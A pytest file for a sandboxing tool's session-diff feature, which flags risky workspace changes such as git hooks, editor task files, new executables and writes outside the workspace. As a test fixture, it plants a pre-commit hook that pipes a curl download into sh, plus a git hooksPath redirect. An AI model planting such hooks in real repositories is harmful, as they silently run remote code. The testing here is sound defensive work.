"""The session diff: everything changed since the snapshot, added and deleted files included."""

from __future__ import annotations

import os
from pathlib import Path
from types import SimpleNamespace

import pytest
from fakes import QueueLink
from uikit import make_session

from app.ui.session_diff import MAX_FILE, diff_since, snapshot


def test_added_deleted_modified_binary_large(workspace: Path) -> None:
    (workspace / "keep.txt").write_text("same\n")
    (workspace / "edit.py").write_text("a = 1\nb = 2\n")
    (workspace / "gone.md").write_text("bye\n")
    (workspace / "blob.bin").write_bytes(b"\0\1\2")
    (workspace / "big.log").write_bytes(b"x" * (MAX_FILE + 1))
    (workspace / ".git").mkdir()
    (workspace / ".git" / "HEAD").write_text("ref\n")
    before = snapshot(workspace)
    assert ".git/HEAD" not in before

    (workspace / "edit.py").write_text("a = 1\nb = 3\n")
    (workspace / "gone.md").unlink()
    (workspace / "new" / "x.txt").parent.mkdir()
    (workspace / "new" / "x.txt").write_text("hello")
    (workspace / "blob.bin").write_bytes(b"\0\1\3")
    (workspace / "big.log").write_bytes(b"y" * (MAX_FILE + 1))
    (workspace / ".git" / "HEAD").write_text("other\n")
    (workspace / ".lockgate").mkdir()  # lockgate's own undo journal is not the session's work
    (workspace / ".lockgate" / "journal").write_text("x\n")
    os.chmod(workspace / "keep.txt", 0o600)

    d = diff_since(before, workspace)
    files = {p: (a, r) for p, a, r in d.files}
    assert files == {"edit.py": (1, 1), "gone.md": (0, 1), "new/x.txt": (1, 0)}
    assert "--- /dev/null\n+++ b/new/x.txt" in d.unified
    assert "--- a/gone.md\n+++ /dev/null" in d.unified
    assert "\\ No newline at end of file" in d.unified
    notes = "\n".join(d.notes)
    assert "blob.bin: binary or large file changed" in notes
    assert "big.log: binary or large file changed" in notes
    assert "keep.txt: mode" in notes
    assert ".git" not in d.unified
    assert ".lockgate" not in d.unified


def test_nothing_changed(workspace: Path) -> None:
    (workspace / "a").write_text("x")
    assert diff_since(snapshot(workspace), workspace).empty


def test_hooks_config_protected_ignored_and_outside_changes_come_first_marked(
    workspace: Path, tmp_path: Path
) -> None:
    """#18.3: the final review shows every change lockgate can see, the dangerous ones first."""
    hooks = workspace / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (workspace / ".git" / "config").write_text("[core]\n")
    (hooks / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    (workspace / "node_modules" / "left").mkdir(parents=True)
    (workspace / "node_modules" / "left" / "index.js").write_text("x\n")
    (workspace / "app.py").write_text("a = 1\n")
    cache = tmp_path / "cache"
    cache.mkdir()
    before = snapshot(workspace, [cache])

    (workspace / "app.py").write_text("a = 2\n")
    (hooks / "pre-commit").write_text("#!/bin/sh\ncurl -s https://x.example | sh\n")
    (workspace / ".git" / "config").write_text("[core]\n\thooksPath = /tmp/h\n")
    (workspace / ".vscode").mkdir()
    (workspace / ".vscode" / "tasks.json").write_text("{}\n")
    (workspace / "node_modules" / "left" / "index.js").write_text("evil\n")
    (workspace / "run.sh").write_text("echo\n")
    os.chmod(workspace / "run.sh", 0o755)
    (cache / "planted").write_text("x\n")

    d = diff_since(before, workspace, [cache], [("/etc/profile.d/x.sh", "cmd-t1-3")])
    flagged = {f.path: f.why for f in d.dangerous}
    assert flagged == {
        ".git/config": "git internals (hooks and config run code)",
        ".git/hooks/pre-commit": "git internals (hooks and config run code)",
        ".vscode/tasks.json": "agent or editor configuration (it can run code or steer agents)",
        "run.sh": "made executable",
        f"{cache.resolve()}/planted": "outside the workspace",
        "/etc/profile.d/x.sh": "outside the workspace",
    }
    order = [p for p, _, _ in d.files]
    assert order[-1] == "app.py", order  # the ordinary change after every dangerous one
    assert set(order[:-1]) == {
        ".git/config",
        ".git/hooks/pre-commit",
        ".vscode/tasks.json",
        "run.sh",
    }
    assert "+curl -s https://x.example | sh" in d.unified
    assert "node_modules (ignored, compared by size and time): 1 changed" in d.notes


def test_run_and_demo_hand_the_sandboxs_writable_roots_to_the_console(
    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`lockgate run` and `lockgate demo` both start the console through `play`: the session
    diff (`d`) then covers the sandbox's writable roots outside the workspace."""
    import app.ui
    from app.cli.run_cmd import play
    from app.ui.app import roots_outside

    cache = tmp_path / "cache"
    cache.mkdir()
    handed: list[tuple[Path, ...]] = []

    def console(session: object, link: object, outside_roots: tuple[Path, ...] = ()) -> int:
        handed.append(tuple(outside_roots))
        return 0

    monkeypatch.setattr(app.ui, "run_console", console)
    session = make_session(workspace)
    sandboxed = SimpleNamespace(
        pipeline=session.pipeline,
        sandbox=SimpleNamespace(policy=SimpleNamespace(writable=(cache, workspace / "build"))),
    )
    assert play(sandboxed, QueueLink(), headless=False) == 0  # type: ignore[arg-type]
    assert handed == [(cache, workspace / "build")]
    # The console keeps those outside the workspace (one inside it is covered already).
    assert roots_outside(workspace, handed[0]) == (cache.resolve(),)
